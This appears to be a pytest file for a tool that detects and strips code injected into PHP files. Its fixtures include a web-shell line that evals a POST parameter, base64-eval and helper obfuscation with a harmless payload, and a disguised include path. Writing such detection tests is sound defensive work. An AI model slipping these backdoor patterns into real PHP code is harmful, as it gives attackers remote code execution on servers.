"""Blocks put into honest files as injectors put them, and cut out again to the byte."""

import base64

import pytest

from unhijack.parse.plain.blocks import merged, without
from unhijack.parse.plain.files import plain_marks

HONEST = b"""<?php
/**
 * Words of a shop.
 */
class Words
{
    public function say($name)
    {
        return strtolower(trim($name));
    }

    public function count(array $names)
    {
        return count(array_unique(array_map('strtolower', $names)));
    }
}
"""
TEMPLATE = b"<html>\n<body>\n<?php foreach ($words as $word): ?>\n<p><?php echo $word; ?></p>\n<?php endforeach; ?>\n</body>\n</html>\n"
WORDS = base64.b64encode(b"$harmless = 'words'; print($harmless);")
PLANTED = {
    "decoded": b"eval(base64_decode('" + WORDS + b"'));",
    "request": b"if (isset($_POST['k'])) { eval($_POST['k']); exit; }",
    "include": rb'@include "\057var\057w.f4v\x69con.ico";',
    "helper": b"function zq8x($t) { return base64_decode($t); }\n$vq9 = zq8x('d29yZHM=');\neval($vq9);",
}
PLACES = {
    "before": lambda code: b"<?php " + code + b" ?>" + HONEST,
    "before, own line": lambda code: b"<?php\n" + code + b"\n?>\n" + HONEST,
    "behind the tag": lambda code: HONEST.replace(b"<?php", b"<?php " + code, 1),
    "behind blanks": lambda code: HONEST.replace(b"<?php", b"<?php" + b" " * 300 + code, 1),
    "a line of its own": lambda code: HONEST.replace(b"<?php\n", b"<?php\n" + code + b"\n", 1),
    "at the end": lambda code: HONEST + code,
    "between marks": lambda code: HONEST.replace(
        b"<?php\n", b"<?php\n/*a8f3c1*/\n" + code + b"\n/*a8f3c1*/\n", 1
    ),
    "between marks on a line": lambda code: HONEST.replace(
        b"<?php\n", b"<?php\n/*a8f3c1*/ " + code + b" /*a8f3c1*/\n", 1
    ),
}


def cut_out(content: bytes) -> bytes:
    cuts = [mark.cut for mark in plain_marks("words.php", content) if mark.cut is not None]
    assert cuts
    return without(content, cuts)


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("planted", PLANTED)
def test_without_the_block_the_file_is_what_it_was(place: str, planted: str):
    assert cut_out(PLACES[place](PLANTED[planted])) == HONEST


@pytest.mark.parametrize("planted", ["decoded", "request"])
def test_a_block_before_a_template(planted: str):
    assert cut_out(b"<?php " + PLANTED[planted] + b" ?>" + TEMPLATE) == TEMPLATE


def test_a_file_of_nothing_else_is_planted_as_a_whole():
    marks = plain_marks("words.php", b"<?php @eval($_POST['k']); ?>\n")
    assert marks
    assert all(mark.whole and mark.cut is None for mark in marks)


def test_honest_files_have_no_marks():
    assert plain_marks("words.php", HONEST) == []
    assert plain_marks("words.php", TEMPLATE) == []


def test_windows_line_ends_are_kept():
    honest = HONEST.replace(b"\n", b"\r\n")
    content = honest.replace(b"<?php", b"<?php " + PLANTED["decoded"], 1)
    assert cut_out(content) == honest


def test_cuts_that_touch_become_one():
    assert merged([(5, 9), (0, 5), (20, 30)]) == [(0, 9), (20, 30)]
